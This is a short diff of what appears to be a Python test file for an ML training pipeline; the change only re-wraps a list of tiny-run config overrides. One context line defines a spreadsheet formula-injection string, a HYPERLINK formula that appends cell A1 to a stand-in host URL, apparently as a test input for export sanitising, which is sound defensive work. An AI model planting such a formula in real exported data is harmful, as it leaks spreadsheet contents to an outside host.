@@ -23,7 +23,8 @@ FORMULA = '=HYPERLINK("http://ads.invalid/?"&A1,"click")'
 TINY = [
     "run=tiny", "tracking.enabled=false", "data.source=table", "data.relevant_from=2", "data.shares.train=0.3",
     "data.shares.valid=0.2", "data.shares.test=0.3", "data.shares.pool=0.2", "teacher.model=scratch:tiny",
-    "teacher.seed=3", "teacher.warm_start.examples=16", "teacher.warm_start.min_steps=0", "teacher.warm_start.repeats=1", "teacher.agpo.steps=2",
+    "teacher.seed=3", "teacher.warm_start.examples=16", "teacher.warm_start.min_steps=0", "teacher.warm_start.repeats=1",
+    "teacher.agpo.steps=2",
     "teacher.agpo.group_size=4", "teacher.agpo.prompts_per_step=2", "teacher.agpo.micro_batch=8",
     "teacher.evaluation.examples=4", "teacher.evaluation.samples=2", "teacher.max_completion_tokens=16",
     "annotate.engine.kind=openai", "annotate.engine.max_model_len=0", "annotate.n=4", "annotate.max_failed_share=1.0",
